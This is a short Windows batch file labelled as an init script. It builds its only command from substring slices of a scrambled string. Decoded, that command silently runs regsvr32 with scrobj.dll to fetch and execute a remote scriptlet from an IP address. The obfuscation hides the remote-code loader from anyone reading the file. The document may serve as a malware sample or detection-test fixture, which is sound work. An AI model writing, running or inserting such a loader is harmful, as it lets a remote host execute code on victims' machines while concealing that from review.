REM init 5638 v1
@echo off
set "mthn=m:v/bhsnd9WtGri12uF8o.5pglP06Cc3fje"
%mthn:~-22,1%%mthn:~34,1%%mthn:~24,1%%mthn:~-29,1%%mthn:~2,1%%mthn:~13,1%%mthn:~31,1%%mthn:~16,1% %mthn:~3,1%%mthn:~6,1% %mthn:~-32,1%%mthn:~-28,1% %mthn:~3,1%%mthn:~17,1% %mthn:~3,1%%mthn:~14,1%%mthn:~1,1%%mthn:~-30,1%%mthn:~-24,1%%mthn:~11,1%%mthn:~23,1%%mthn:~1,1%%mthn:~3,1%%mthn:~3,1%%mthn:~15,1%%mthn:~9,1%%mthn:~-19,1%%mthn:~21,1%%mthn:~-8,1%%mthn:~21,1%%mthn:~16,1%%mthn:~21,1%%mthn:~15,1%%mthn:~-13,1%%mthn:~27,1%%mthn:~3,1%%mthn:~32,1%%mthn:~-21,1%%mthn:~-10,1%%mthn:~34,1%%mthn:~21,1%%mthn:~6,1%%mthn:~30,1%%mthn:~11,1% %mthn:~-29,1%%mthn:~-5,1%%mthn:~13,1%%mthn:~-15,1%%mthn:~-31,1%%mthn:~-2,1%%mthn:~21,1%%mthn:~-27,1%%mthn:~25,1%%mthn:~-10,1%
